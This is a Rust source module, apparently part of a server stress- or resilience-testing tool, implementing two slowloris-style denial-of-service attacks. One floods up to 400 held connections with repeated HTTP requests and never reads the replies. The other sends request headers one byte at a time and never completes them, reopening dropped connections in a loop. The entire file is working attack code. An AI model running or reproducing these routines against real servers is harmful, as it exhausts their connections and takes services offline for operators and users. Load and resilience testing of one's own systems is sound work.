//! Connections that are held and never used.

use crate::attacker::Attacker;
use anyhow::Result;
use std::io::Write;
use std::net::TcpStream;
use std::thread;
use std::time::Duration;

/// How many connections one attacker tries to hold; an address may have 128.
const MANY: usize = 400;

/// How long an attacker waits between two rounds through the connections.
const PAUSE: Duration = Duration::from_millis(200);

/// Asks for much on every connection and reads nothing of it.
pub(crate) fn never_read(attacker: &mut Attacker) -> Result<()> {
    let request =
        format!("GET /api/v1/openapi.json HTTP/1.1\r\nHost: {}\r\n\r\n", attacker.place()).repeat(50);
    hold(attacker, |link| link.write_all(request.as_bytes()))
}

/// Sends a head byte by byte and never to its end.
pub(crate) fn slow_heads(attacker: &mut Attacker) -> Result<()> {
    hold(attacker, |link| link.write_all(b"G"))
}

/// Opens connections, does something with each again and again, and opens others for those that were closed.
fn hold(attacker: &mut Attacker, mut act: impl FnMut(&mut TcpStream) -> std::io::Result<()>) -> Result<()> {
    let mut links = Vec::new();
    while attacker.goes_on() {
        while links.len() < MANY && attacker.goes_on() {
            let Ok(link) = attacker.connect() else { break };
            link.set_nonblocking(true)?;
            links.push(link);
        }
        let n_held = links.len();
        links.retain_mut(|link| match act(link) {
            Ok(()) => true,
            Err(error) => error.kind() == std::io::ErrorKind::WouldBlock,
        });
        (links.len()..n_held).for_each(|_| attacker.count(None));
        thread::sleep(PAUSE);
    }
    Ok(())
}
